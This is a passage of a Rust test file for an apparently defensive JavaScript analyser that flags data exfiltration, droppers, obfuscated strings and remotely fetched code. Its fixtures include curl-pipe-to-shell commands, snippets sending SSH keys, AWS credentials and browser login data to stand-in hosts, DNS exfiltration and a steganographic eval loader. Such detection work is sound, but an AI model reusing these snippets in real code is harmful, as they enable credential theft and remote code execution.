        const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
        if (zone === TZ.RUSSIA.MOSCOW) { console.log("привет"); }
        if (zone === TZ.GERMANY) { console.log("an object, not a zone"); }"#,
    );
    assert_eq!(g.len(), 1, "{g:#?}");
    assert_eq!(g[0].countries, vec!["RU"]);
    assert_eq!(g[0].constants, vec!["Europe/Moscow"]);
    // Literals naming each other in a cycle end (no constants, no overflow).
    let g = guards_of(
        r#"const A = { x: B.y }; const B = { y: A.x };
        const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
        if (zone === A.x) { console.log("?"); }"#,
    );
    assert!(g.is_empty(), "{g:#?}");
}

#[test]
fn a_zone_to_country_table_and_a_map_of_codes_are_region_data() {
    let g = guards_of(
        r#"const zoneToCountry = { "Europe/Moscow": "RU", "Europe/Minsk": "BY", "Europe/Berlin": "DE" };
        const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;
        const cc = zoneToCountry[tz];
        if (cc === "RU") { console.log("A"); }
        const blocked = new Map([["RU", 1], ["BY", 1]]);
        if (blocked.has(cc)) { console.log("B"); }
        const byZone = new Map([["Asia/Shanghai", "CN"]]);
        if (byZone.get(tz) === "CN") { console.log("C"); }"#,
    );
    assert_eq!(g.len(), 3, "{g:#?}");
    assert_eq!(g[0].countries, vec!["RU"]);
    assert!(
        g[0].steps
            .iter()
            .any(|s| s.what.contains("looks it up in the table")),
        "{g:#?}"
    );
    assert_eq!(g[1].countries, vec!["BY", "RU"]);
    assert_eq!(g[2].countries, vec!["CN"]);
    // A table looked up with something that is not region data gives nothing.
    let g = guards_of(
        r#"const statusToCode = { active: "RU", idle: "BY" };
        export function f(s) { if (statusToCode[s.status] === "RU") console.log("x"); }"#,
    );
    assert!(g.is_empty(), "{g:#?}");
}

#[test]
fn data_kept_on_this_reaches_the_methods_that_send_it() {
    // qwen-code's QwenLogger: the constructor keeps an installation id on `this`, a method
    // builds the payload from it and another sends the payload.
    let pos = run("const fs = require('fs'); const { randomUUID } = require('crypto');
        class InstallationManager {
          path() { return Storage.getInstallationIdPath(); }
          read() { const p = this.path(); return fs.existsSync(p) ? fs.readFileSync(p, 'utf-8').trim() : null; }
          write(id) { const p = this.path(); atomicWriteFileSync(p, id, { encoding: 'utf-8' }); }
          getInstallationId() {
            let id = this.read();
            if (!id) { id = randomUUID(); this.write(id); }
            return id;
          }
        }
        var Logger = class _Logger {
          events = [];
          constructor(config) {
            this.config = config;
            this.installationManager = new InstallationManager();
            this.userId = this.generateUserId();
          }
          generateUserId() { return `user-${this.installationManager.getInstallationId() ?? 'unknown'}`; }
          enqueue(event) { this.events.push(event); }
          payload() { return { user: { id: this.userId }, events: this.events }; }
          async flush() {
            const body = JSON.stringify(await this.payload());
            const req = https.request({ hostname: 'rum.example.top', method: 'POST' }, () => {});
            req.end(body);
          }
        };
        const https = require('https');");
    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
    assert!(
        pos.flows[0].kinds.contains(DataKind::InstallationId),
        "{:#?}",
        pos.flows
    );
    // Fields stay apart: the host name kept on `this` is not in a payload that sends
    // another field, and `this` in a plain function is not the class's.
    let neg = run("const os = require('os');
        class Client {
          constructor() { this.host = os.hostname(); this.version = '1.0'; }
          report() { fetch('https://t.example.top/v', { method: 'POST', body: JSON.stringify({ v: this.version }) }); }
          later() { setTimeout(function () { fetch('https://t.example.top/h', { method: 'POST', body: this.host }); }); }
        }");
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
    // A subclass's method reads what the base class's constructor kept; a field of an
    // instance is read by name outside the class too.
    let base = run("const os = require('os');
        class Base { constructor() { this.who = os.userInfo().username; this.host = os.hostname(); } }
        class Child extends Base { send() { fetch('https://t.example.top/b', { method: 'POST', body: this.who }); } }
        new Child().send();
        const c = new Child(); navigator.sendBeacon('https://t.example.top/c', c.host);");
    assert_eq!(base.flows.len(), 2, "{:#?}", base.flows);
    assert!(base.flows[0].kinds.contains(DataKind::Username));
    assert_eq!(base.flows[1].kinds, Kinds::of(DataKind::Hostname));
}

#[test]
fn what_goes_to_a_local_socket_stays_on_the_machine() {
    // claude-code hands its daemon the session's environment over a Unix socket.
    let local = run("const net = require('net');
        function claim(sockPath, frame) { const s = net.connect(sockPath); s.end(JSON.stringify({ env: { ...process.env }, frame })); }
        const p = net.createConnection({ path: '/tmp/d.sock' }); p.write(JSON.stringify(process.env));
        const q = net.connect(pipeName); q.write(os.hostname());");
    assert!(local.flows.is_empty(), "{:#?}", local.flows);
    let remote = run("const net = require('net'); const os = require('os');
        const s = net.connect(4444, 'c2.example.top'); s.write(os.hostname());");
    assert_eq!(remote.flows.len(), 1, "{:#?}", remote.flows);
}

#[test]
fn a_method_of_the_instance_is_no_global() {
    // `this.request(…)` in a class is its own method, not the `request` package.
    let f = run("class Query { constructor(o) { this.options = o; }
          init() { const g = { env: { ...process.env } }; return this.request(g); } }");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    let top = run("const g = { env: { ...process.env } }; request.post({ url: 'https://t.example.top', json: g });");
    assert_eq!(top.flows.len(), 1, "{:#?}", top.flows);
}

#[test]
fn a_helper_made_of_its_arguments_carries_each_calls_own() {
    // gemini-cli's safeJsonStringify serves the telemetry logger and a response recorder.
    let src = "const os = require('os');
        function safeJsonStringify(obj, space) {
          const seen = new WeakSet();
          return JSON.stringify(obj, (k, v) => { if (typeof v === 'object' && v !== null) { if (seen.has(v)) return '[Circular]'; seen.add(v); } return v; }, space);
        }
        fs.writeFileSync('/tmp/rec.json', safeJsonStringify({ host: os.hostname() }));
        fetch('https://t.example.top/log', { method: 'POST', body: safeJsonStringify({ event: 'start' }) });
        SEND";
    let neg = run(&src.replace("SEND", ""));
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
    let pos = run(&src.replace(
        "SEND",
        "fetch('https://t.example.top/h', { method: 'POST', body: safeJsonStringify({ h: os.hostname() }) });",
    ));
    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
    // A helper that reads something itself keeps the ordinary model.
    let reads = run("const os = require('os');
        function withHost(o) { return JSON.stringify({ ...o, host: os.hostname() }); }
        fetch('https://t.example.top/log', { method: 'POST', body: withHost({ event: 'start' }) });");
    assert_eq!(reads.flows.len(), 1, "{:#?}", reads.flows);
}

#[test]
fn a_function_that_returns_its_arguments_carries_each_calls_own() {
    // copilot's error formatter (called from hundreds of places) formats a settings object in
    // one and a download failure in another: not a helper by its text (`Error`, `instanceof`).
    let src = "const os = require('os');
        function fmt(e) { return e instanceof Error ? e.message : describe(e); }
        function describe(v) { let s; try { s = JSON.stringify(v); } catch { return '[object]'; } return s; }
        console.log(fmt({ home: os.homedir(), env: process.env }));
        console.log(fmt(new Error('x')));
        function report(err) { return fetch('https://t.example.top/fail?m=' + fmt(err)); }
        report(new Error('download failed')); report('timeout'); report(404); report(null);
        SEND";
    let neg = run(&src.replace("SEND", ""));
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
    let pos = run(&src.replace(
        "SEND",
        "fetch('https://t.example.top/h', { method: 'POST', body: fmt({ h: os.hostname() }) });",
    ));
    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
    // Through helpers called from one place each (`fmt → clean → trim`): they merge no
    // callers, and the chain still returns only what `fmt` is given.
    let chained = run(&src.replace("SEND", "").replace(
        "function fmt(e) { return e instanceof Error ? e.message : describe(e); }",
        "function fmt(e) { return clean(e instanceof Error ? e.message : describe(e)); }
         function clean(t) { for (const p of ['<html', '<!DOCTYPE']) { if (String(t).startsWith(p)) return '[page]'; } return limit(t, 0, 200); }
         function limit(t, a, b) { let s = String(t); if (s.length > b) { s = s.slice(a, b) + '…'; } return s; }",
    ));
    assert!(chained.flows.is_empty(), "{:#?}", chained.flows);
    // A function whose result is a request's answer returns data of its own: what a caller
    // put in the request's URL is not in the answer.
    let answer = run("const https = require('https');
        function fetchJson(url) {
          return new Promise((resolve) => {
            https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c));
              res.on('end', () => resolve(JSON.parse(Buffer.concat(chunks).toString()))); });
          });
        }
        async function release(owner) { return fetchJson(`https://api.github.com/repos/${owner}/x/releases/latest`); }
        async function a() { const r = await release('x'); https.get(r.tarball_url, () => {}); }
        async function b() { const r = await release(process.cwd()); https.get(r.tarball_url, () => {}); }
        a(); b(); release('y'); release('z'); release('w');");
    assert_eq!(answer.flows.len(), 1, "{:#?}", answer.flows);
    assert!(
        answer.flows[0]
            .steps
            .iter()
            .any(|s| s.what.contains("releases/latest")),
        "{:#?}",
        answer.flows
    );
}

#[test]
fn a_promise_carries_what_it_is_resolved_with() {
    let src = "const os = require('os');
        async function main() {
          const h = await new Promise((resolve) => { resolve(os.hostname()); });
          await fetch('https://collect.example.top/?h=' + h);
        }
        main();";
    assert_eq!(run(src).flows.len(), 1);
    // `.then(cb)` is what the callback returns.
    let then = run("const os = require('os');
        Promise.resolve(os.hostname()).then((h) => 'fixed').then((v) => fetch('https://c.example.top/?v=' + v));");
    assert!(then.flows.is_empty(), "{:#?}", then.flows);
}

#[test]
fn request_options_that_set_the_request_up_are_not_sent() {
    let neg = run("const https = require('https'); const os = require('os');
        const agent = new https.Agent({ ca: require('fs').readFileSync(os.homedir() + '/ca.pem') });
        https.get('https://api.example.top/v1', { agent, signal: AbortSignal.timeout(5000), lookup: (h, o, cb) => cb(null, os.homedir()) });");
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
    let pos = run("const https = require('https'); const os = require('os');
        https.get('https://api.example.top/v1', { headers: { 'x-host': os.hostname() } });");
    assert_eq!(pos.flows.len(), 1, "{:#?}", pos.flows);
}

/// A service handed in (a parameter, no API's name) given where to work returns what it finds
/// there, not the directories and environment it is told; named APIs (`JSON.stringify`, a
/// required module) and combining methods keep every field.
#[test]
fn a_service_told_where_to_work_does_not_return_the_places() {
    let src = "const os = require('os');
        async function start(S) {
          const r = await S.settingsResetOnce({ configDir: undefined, homeDirectory: os.homedir(), environment: process.env });
          await fetch('https://api.example.top/releases/' + r.channel);
        }";
    assert!(run(src).flows.is_empty(), "{:#?}", run(src).flows);
    for kept in [
        "JSON.stringify({ homeDirectory: os.homedir() })",
        "require('./collect').gather({ homeDirectory: os.homedir() })",
        "S.merge({}, { homeDirectory: os.homedir() })",
        "S.describe({ user: os.userInfo().username })",
    ] {
        let src = format!(
            "const os = require('os');
            function start(S) {{ fetch('https://api.example.top/x', {{ method: 'POST', body: {kept} }}); }}"
        );
        assert_eq!(run(&src).flows.len(), 1, "{kept}: {:#?}", run(&src).flows);
    }
}

#[test]
fn a_loader_returns_what_it_loads_not_where_it_looks() {
    let src = "const os = require('os');
        async function channel() {
          const s = await native.userSettingsLoad({ homeDirectory: os.homedir(), environment: process.env });
          return s.updateChannel;
        }
        channel().then((c) => fetch('https://api.example.top/releases/' + c));";
    assert!(run(src).flows.is_empty());
    let not_a_load = run("const os = require('os');
        const s = native.threadStart({ homeDirectory: os.homedir() });
        fetch('https://api.example.top/x?s=' + s);");
    assert_eq!(not_a_load.flows.len(), 1, "{:#?}", not_a_load.flows);
}

/// Shell strings handed to a process API are read by the shell front end, located at the
/// call: code fetched and run, whichever way the command reaches a shell.
#[test]
fn shell_commands_run_from_javascript_are_read_as_shell() {
    for call in [
        "cp.execSync('curl -s https://evil.example.top/i.sh | sh')",
        "cp.exec(`wget -qO- ${'http://1.2.3.4'}/p | bash`, () => {})",
        "cp.spawn('bash', ['-c', 'curl -fsSL https://evil.example.top/x | sh'])",
        "cp.spawnSync('curl https://evil.example.top/x | sh', { shell: true })",
        "cp.execSync(['curl', '-s', 'https://evil.example.top/x', '|', 'sh'].join(' '))",
        "require('execa').command('curl https://evil.example.top/x | sh')",
        "require('execa').execaCommand('curl https://evil.example.top/x | sh')",
    ] {
        let f = run(&format!("const cp = require('child_process');\n{call};"));
        assert!(
            f.dynamic_code.iter().any(|d| d.from_network),
            "{call}: {:#?}",
            f.dynamic_code
        );
        assert_eq!(
            f.dynamic_code[0].span.start, 37,
            "{call}: located at the call"
        );
    }
    // Data in a DNS name, and what a command prints, sent.
    let f = run(
        "const cp = require('child_process'); const os = require('os');
        cp.exec(`nslookup ${os.hostname()}.x.example.top`);
        const u = cp.execSync('whoami').toString().trim();
        fetch('https://x.example.top/?u=' + u);",
    );
    let sinks: Vec<(SinkKind, Kinds)> = f.flows.iter().map(|fl| (fl.sink, fl.kinds)).collect();
    assert_eq!(
        sinks,
        vec![
            (SinkKind::Dns, Kinds::of(DataKind::Hostname)),
            (SinkKind::Http, Kinds::of(DataKind::Username)),
        ],
        "{:#?}",
        f.flows
    );
    // Ordinary build commands: nothing.
    let f = run(
        "const { execSync, spawnSync, execFile } = require('child_process');
        execSync('git rev-parse HEAD', { stdio: 'inherit' });
        spawnSync('npm', ['install', '--no-audit'], { shell: true });
        execFile('node', [__dirname + '/build.js']);
        execSync(`tsc -p ${__dirname}/tsconfig.json`);
        spawnSync('sh', ['-c', 'rm -rf dist && mkdir dist']);",
    );
    assert!(f.flows.is_empty() && f.dynamic_code.is_empty(), "{f:#?}");
}

/// A dropper: bytes from the network written to a file that is then run, with every step;
/// a file written with the package's own data and run, or a download never run, is none.
#[test]
fn a_downloaded_file_that_is_run_is_a_dropper() {
    let f = run("const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');
        const { execFileSync, spawn, exec } = require('child_process');
        const p = path.join(os.tmpdir(), 'updater');
        https.get('https://evil.example.top/bin', (res) => {
          const f = fs.createWriteStream(p);
          res.pipe(f);
          f.on('finish', () => { fs.chmodSync(p, 0o755); execFileSync(p); });
        });
        async function two() {
          const r = await fetch('https://evil.example.top/s.js');
          fs.writeFileSync('/tmp/stage2.js', Buffer.from(await r.arrayBuffer()));
          spawn('node', ['/tmp/stage2.js'], { detached: true }).unref();
        }");
    let found: Vec<(&str, &str, usize)> = f
        .droppers
        .iter()
        .map(|d| (d.path.as_str(), d.api.as_str(), d.steps.len()))
        .collect();
    assert_eq!(
        found,
        vec![
            ("*/updater", "child_process.execFileSync", 4),
            ("/tmp/stage2.js", "child_process.spawn", 3)
        ],
        "{:#?}",
        f.droppers
    );
    let benign = run("const https = require('https'), fs = require('fs');
        const { execFileSync } = require('child_process');
        fs.writeFileSync('/tmp/build.sh', 'echo hi');
        execFileSync('/tmp/build.sh');
        https.get('https://registry.example.top/data.json', (res) => res.pipe(fs.createWriteStream('/tmp/data.json')));
        execFileSync('node', ['/tmp/other.js']);");
    assert!(benign.droppers.is_empty(), "{:#?}", benign.droppers);
}

/// What a file read or a command delivers to a callback, or a read stream to its `data`
/// events, carries the file's (or the output's) data; a package's own file carries none.
#[test]
fn data_delivered_to_callbacks_and_stream_events_is_followed() {
    let send =
        "function post(d) { https.request({ hostname: 'c.example.top', method: 'POST' }).end(d); }";
    for (code, kind) in [
        (
            "fs.readFile(path.join(os.homedir(), '.aws', 'credentials'), 'utf8', (e, d) => post(d));",
            DataKind::StoredCredentials,
        ),
        (
            "fs.createReadStream(path.join(os.homedir(), '.ssh', 'id_rsa')).on('data', (c) => post(c));",
            DataKind::SshKey,
        ),
        (
            "require('child_process').exec('whoami', (err, out) => post(out));",
            DataKind::Username,
        ),
        (
            "fs.promises.readFile(os.homedir() + '/.config/google-chrome/Default/Login Data').then(post);",
            DataKind::StoredCredentials,
        ),
    ] {
        let f = run(&format!(
            "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\n{send}\n{code}"
        ));
        assert_eq!(f.flows.len(), 1, "{code}: {:#?}", f.flows);
        assert!(f.flows[0].kinds.contains(kind), "{code}: {:#?}", f.flows);
    }
    let own = run(&format!(
        "const fs = require('fs'), https = require('https');\n{send}\n\
         fs.readFile(__dirname + '/package.json', 'utf8', (e, d) => post(d));"
    ));
    assert!(own.flows.is_empty(), "{:#?}", own.flows);
}

/// Members reached through reflection are the members: `Reflect.get(os, "hostname")()`,
/// `Object.getOwnPropertyDescriptor(os, "userInfo").value()`, computed keys.
#[test]
fn members_reached_through_reflection_are_resolved() {
    for read in [
        "Reflect.get(os, 'host' + 'name')()",
        "Object.getOwnPropertyDescriptor(os, 'hostname').value()",
        "globalThis['require']('os').hostname()",
    ] {
        let f = run(&format!(
            "const os = require('os');\nfetch('https://a.example.top/?h=' + {read});"
        ));
        assert_eq!(f.flows.len(), 1, "{read}: {:#?}", f.flows);
        assert!(f.flows[0].kinds.contains(DataKind::Hostname), "{read}");
    }
    let f = run("const os = require('os');\nfetch('https://a.example.top/?p=' + Reflect.get(os, 'platform')());");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

/// A DNS name built from data with a constant domain after it is sent to that domain's server:
/// the domain is the flow's endpoint and a request.
#[test]
fn a_dns_name_built_from_data_goes_to_its_domain() {
    let f = run("const os = require('os');
        require('dns').lookup(`${os.hostname()}.x7k2ab.oastify.com`, () => {});");
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert_eq!(f.flows[0].endpoints, vec!["x7k2ab.oastify.com"]);
    assert!(f.endpoints.iter().any(|e| e.host == "x7k2ab.oastify.com"));
    // A name that is only data asks for the machine's own address.
    let own = run("const os = require('os'); require('dns').lookup(os.hostname(), () => {});");
    assert!(own.endpoints.is_empty(), "{:#?}", own.endpoints);
}

/// Passing a download on (`got.stream(url).pipe(file)`, `.then`) sends nothing, though the
/// catalogue's `got.*` covers the path; the request itself still does.
#[test]
fn passing_a_download_on_sends_nothing() {
    let f = run("const got = require('got'), fs = require('fs'), os = require('os'), path = require('path');
        const file = fs.createWriteStream(path.join(os.homedir(), '.tool', 'bin.zip'));
        got.stream('https://bin.example.top/tool.zip').pipe(file);");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    let old = telltale_knowledge::js_api::js_api().sink("got.stream().pipe");
    assert!(old.is_none());
    let f = run("const got = require('got'), os = require('os');
        got.post('https://t.example.top/e', { body: os.hostname() }).then((r) => r.body);");
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
}

#[test]
fn members_found_by_reflection_are_those_members() {
    for src in [
        "const os = require('os'); const f = Object.entries(os).find(([k]) => k === 'hostname')[1];
         fetch('https://r.example.net/x', { method: 'POST', body: f() });",
        "const os = require('os'); const k = Object.keys(os).find((n) => n.startsWith('hostn'));
         fetch('https://r.example.net/x', { method: 'POST', body: os[k]() });",
    ] {
        let f = run(src);
        assert!(
            f.flows
                .iter()
                .any(|fl| fl.kinds.contains(DataKind::Hostname)),
            "{src}\n{:#?}",
            f.flows
        );
    }
    // A predicate several members meet picks whichever comes first at run time: unknown.
    let f = run(
        "const os = require('os'); const k = Object.keys(os).find((n) => n.startsWith('h'));
         fetch('https://r.example.net/x', { method: 'POST', body: os[k]() });",
    );
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

#[test]
fn own_event_emitters_deliver_what_emit_passes() {
    let f = run(
        "const { EventEmitter } = require('events'); const bus = new EventEmitter();
        bus.on('ready', (h) => fetch('https://e.example.net/x', { method: 'POST', body: h }));
        bus.emit('ready', require('os').hostname());",
    );
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
        "{:#?}",
        f.flows
    );
    // Another event, or another emitter, delivers nothing to that listener.
    for other in [
        "bus.emit('done', require('os').hostname());",
        "const other = new EventEmitter(); other.emit('ready', require('os').hostname());",
    ] {
        let f = run(&format!(
            "const {{ EventEmitter }} = require('events'); const bus = new EventEmitter();
            bus.on('ready', (h) => fetch('https://e.example.net/x', {{ method: 'POST', body: h }}));
            {other}"
        ));
        assert!(f.flows.is_empty(), "{other}\n{:#?}", f.flows);
    }
}

#[test]
fn firebase_writes_are_sends() {
    for src in [
        "const firebase = require('firebase'); firebase.initializeApp({ databaseURL: 'https://x-default-rtdb.firebaseio.com' });
         firebase.database().ref('victims').push({ host: require('os').hostname() });",
        "const { getDatabase, ref, push } = require('firebase/database');
         push(ref(getDatabase(), 'v'), { host: require('os').hostname() });",
    ] {
        let f = run(src);
        assert!(
            f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)),
            "{src}\n{:#?}",
            f.flows
        );
    }
    // Reading from the database sends nothing.
    let f = run("const firebase = require('firebase');
        firebase.database().ref('config').once('value', (s) => console.log(s.val(), require('os').hostname()));");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

#[test]
fn a_chmod_command_makes_executable_it_does_not_run() {
    let write = "const fs = require('fs'); const cp = require('child_process');
        fetch('https://m.example.net/bin').then(r => r.text()).then(t => fs.writeFileSync('/tmp/agent-bin', t));";
    let f = run(&format!("{write} cp.execSync('chmod +x /tmp/agent-bin');"));
    assert!(f.droppers.is_empty(), "{:#?}", f.droppers);
    let f = run(&format!(
        "{write} cp.execSync('chmod +x /tmp/agent-bin && /tmp/agent-bin');"
    ));
    assert_eq!(f.droppers.len(), 1, "{:#?}", f.droppers);
}

#[test]
fn code_hidden_in_downloaded_image_bits_is_code_from_the_network() {
    let loader = |source: &str| {
        format!(
            "{source}
            function run(buf) {{ let bits = ''; for (let i = 54; i < buf.length; i++) bits += buf[i] & 1;
              let s = ''; for (let i = 0; i < bits.length; i += 8) s += String.fromCharCode(parseInt(bits.substr(i, 8), 2));
              eval(s); }}"
        )
    };
    let f = run(&loader(
        "require('https').get('https://s.example.net/cat.png', (res) => { const chunks = [];
           res.on('data', (c) => chunks.push(c)); res.on('end', () => run(Buffer.concat(chunks))); });",
    ));
    assert!(
        f.dynamic_code.iter().any(|d| d.from_network),
        "{:#?}",
        f.dynamic_code
    );
    // An image library that downloads the URL it is given (jimp, node-canvas).
    for source in [
        "const Jimp = require('jimp'); Jimp.read('https://s.example.net/cat.png').then((img) => run(img.bitmap.data));",
        "const { loadImage } = require('canvas'); (async () => { const img = await loadImage('https://s.example.net/cat.png'); run(img.src); })();",
    ] {
        let f = run(&loader(source));
        assert!(
            f.dynamic_code.iter().any(|d| d.from_network),
            "{source}\n{:#?}",
            f.dynamic_code
        );
    }
    // The same bits of a bundled image are not from the network.
    for source in [
        "run(require('fs').readFileSync(__dirname + '/cat.png'));",
        "require('jimp').read(__dirname + '/cat.png').then((img) => run(img.bitmap.data));",
    ] {
        let f = run(&loader(source));
        assert!(
            !f.dynamic_code.iter().any(|d| d.from_network),
            "{source}\n{:#?}",
            f.dynamic_code
        );
    }
}

/// A variable declared bare and assigned once (`var x; x = require("os")`, bundlers' lazy
/// module inits) and a name a script assigns without declaring it mean their one value.
#[test]
fn variables_assigned_once_and_undeclared_names_keep_their_value() {
    for src in [
        "var o; o = require('os'); require('https').get('https://c6.x.top/?h=' + o.hostname());",
        "o = require('os'); require('https').get('https://c6.x.top/?h=' + o.hostname());",
        "function f() { h = require('os').hostname(); } f(); require('https').get('https://c6.x.top/?h=' + h);",
        "let get; get = () => require('os').hostname(); fetch('https://c6.x.top/', { method: 'POST', body: get() });",
    ] {
        let f = run(src);
        assert_eq!(f.flows.len(), 1, "{src}\n{:#?}", f.flows);
        assert!(f.flows[0].kinds.contains(DataKind::Hostname), "{src}");
        assert_eq!(f.flows[0].endpoints, vec!["c6.x.top".to_string()], "{src}");
    }
    // Two values, or a loop's: the variable is no single module.
    for src in [
        "var o; o = require('os'); o = require('path'); require('https').get('https://c6.x.top/?h=' + o.hostname());",
        "o = require('os'); for (o of [require('path')]) {} require('https').get('https://c6.x.top/?h=' + o.hostname());",
        "let o; for (o in require('os')) {} require('https').get('https://c6.x.top/?h=' + o.hostname());",
    ] {
        let f = run(src);
        assert!(f.flows.is_empty(), "{src}\n{:#?}", f.flows);
    }
    // An assigned host global keeps the host's meaning.
    let f = run("process = process || {}; require('https').get('https://c6.x.top/?h=' + require('os').hostname() + process.env.USER);");
    assert!(
        f.flows[0].kinds.contains(DataKind::Username),
        "{:#?}",
        f.flows
    );
}

/// Text written as escapes it does not need hides it: hex, octal (sloppy scripts) and unicode
/// escapes of printable ASCII. Escaped non-ASCII letters, control characters and a stray
/// `\x20` are how minifiers and people write ordinary strings.
#[test]
fn strings_written_as_escapes_are_hidden() {
    for (src, technique) in [
        (
            r#"var u = "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x36\x2e\x78\x2e\x74\x6f\x70\x2f\x61";"#,
            "hex escapes",
        ),
        (
            r#"var u = "\150\164\164\160\163\72\57\57\143\66\56\170\56\164\157\160\57\141";"#,
            "octal escapes",
        ),
        (
            r#"var u = '\u0068\u0074\u0074\u0070\u0073\u003a\u002f\u002f\u0063\u0036\u002e\u0078\u002e\u0074\u006f\u0070';"#,
            "unicode escapes",
        ),
    ] {
        let f = run(src);
        assert_eq!(f.obfuscations.len(), 1, "{src}\n{:#?}", f.obfuscations);
        assert_eq!(f.obfuscations[0].technique, technique);
        assert!(f.obfuscations[0].decoded.starts_with("https://c6.x.top"));
        assert!(
            f.obfuscations[0].provenance.ends_with("literal at 1:9"),
            "{}",
            f.obfuscations[0].provenance
        );
        assert!(f
            .endpoints
            .iter()
            .any(|e| e.host == "c6.x.top" && e.encodings == vec![technique.to_string()]));
    }
    for src in [
        r#"var s = "caf\u00e9 \u00e0 la cr\u00e8me \u2014 https://example.com/docs";"#,
        r#"var s = "see\x20https://example.com/docs for more";"#,
        r#"var nul = "\x00\x01\x02\x03\x04\x05";"#,
        r#"var plain = "\x68\x65\x6c\x6c\x6f";"#,
    ] {
        assert!(run(src).obfuscations.is_empty(), "{src}");
    }
}

/// `process.env` handed to a helper that only reads names from it (`threadId(process.env)`
/// with `H.AMP_THREAD_ID` inside, called from two places) is those variables, not the whole
/// environment; a helper that sends the whole object on, or reads a secret, still says so.
#[test]
fn environment_given_to_a_helper_that_reads_one_name_is_that_variable() {
    let f = run("function threadId(H) { let t = H.AMP_THREAD_ID?.trim(); return t && t.length > 3 ? t : void 0; }
        fetch('https://api.x.top/a', { method: 'POST', body: JSON.stringify({ parent: threadId(process.env) }) });
        fetch('https://api.x.top/b', { method: 'POST', body: JSON.stringify({ parent: threadId(process.env) }) });");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    let f = run("function tok(H) { return H.NPM_TOKEN; } fetch('https://c6.x.top/t', { method: 'POST', body: tok(process.env) });");
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert!(
        f.flows[0].kinds.contains(DataKind::SecretEnv),
        "{:#?}",
        f.flows
    );
    let f = run("function dump(H) { return JSON.stringify(H); } fetch('https://c6.x.top/t', { method: 'POST', body: dump(process.env) });");
    assert!(
        f.flows[0].kinds.contains(DataKind::WholeEnvironment),
        "{:#?}",
        f.flows
    );
    // Not a helper made of its arguments (it runs git), with a constant computed key.
    let f = run("const KEY = 'AMP_REPO_ROOTS'; async function roots(H) { let t = H[KEY]; if (!t) return [];
        const out = []; for (const r of JSON.parse(t)) out.push((await run('git', [r])).stdout); return out; }
        async function go() { const r = await roots(process.env); await fetch('https://api.x.top/ctx', { method: 'POST', body: JSON.stringify(r) }); }");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    let f = run("async function grab(H) { let t = H['NPM_TOKEN']; return [t, Date.now()]; }
        async function go() { const r = await grab(process.env); await fetch('https://c6.x.top/ctx', { method: 'POST', body: JSON.stringify(r) }); }");
    assert!(
        f.flows[0].kinds.contains(DataKind::SecretEnv),
        "{:#?}",
        f.flows
    );
}

/// A workload-identity token exchanged at its own issuer (OIDC: the URL is the token's `iss`
/// claim plus a path, the token the bearer credential) is credential use, not a secret sent;
/// the token itself in the URL still is.
#[test]
fn a_token_exchanged_at_its_issuer_is_credential_use() {
    let exchange = |url: &str| {
        format!(
            "function claims(t) {{ const p = t.split('.'); const e = JSON.parse(Buffer.from(p[1], 'base64url').toString('utf8'));
               return {{ audience: e.aud, issuer: e.iss }}; }}
             async function exchange() {{ const r = process.env.CI_WORKLOAD_IDENTITY_TOKEN; const n = {url};
               const s = await fetch(n, {{ method: 'POST', headers: {{ authorization: `Bearer ${{r}}` }}, body: JSON.stringify({{ ttl: 60 }}) }});
               return (await s.json()).token; }}"
        )
    };
    let f = run(&exchange("`${claims(r).issuer}/token`"));
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
    let f = run(&exchange("`https://c6.x.top/${r}`"));
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::SecretEnv)),
        "{:#?}",
        f.flows
    );
}

/// A `fetch` of a bundled library no catalogue names (`(0, lib.fetch)(url, { method, headers,
/// body })`) answers with the server's response, not with what it was given: an agent created
/// with a name built from the host name does not make the agent's id "the host name" in the
/// next request's Authorization header (auggie 0.36.0). A `fetch` of anything else
/// (`cache.fetch(key)`) still carries its argument.
#[test]
fn a_bundled_fetch_answers_with_the_response_not_its_arguments() {
    let f = run(r#"const os = require("os");
        var lib = Ne(Sm());
        class Api {
          async callApi(path, body) {
            const d = await (0, lib.fetch)(`${this.base}/${path}`, { method: "POST", headers: { Authorization: `Bearer ${this._authToken}` }, body: JSON.stringify(body) });
            return await d.json();
          }
          async start() {
            const c = await this.callApi("agents/create", { agent_name: os.hostname() });
            this._authToken = c.agent.token;
            return this.callApi("agents/run", {});
          }
        }"#);
    assert!(
        f.credential_uses
            .iter()
            .all(|u| !u.kinds.contains(DataKind::Hostname)),
        "{:#?}",
        f.credential_uses
    );
    let f = run(r#"const os = require("os");
        const cache = { fetch(k) { return k; } };
        const v = cache.fetch(os.hostname());
        fetch("https://c6.x.top/p", { method: "POST", body: v });"#);
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::Hostname)),
        "{:#?}",
        f.flows
    );
}

/// A function that sends to a constant base joined with a path parameter is a request
/// wrapper: each call's constant path names the whole address, so a vendor's own telemetry
/// intake behind its API client is judged by its path. A telemetry-looking path that goes to
/// no request, and ordinary paths, name no intake.
#[test]
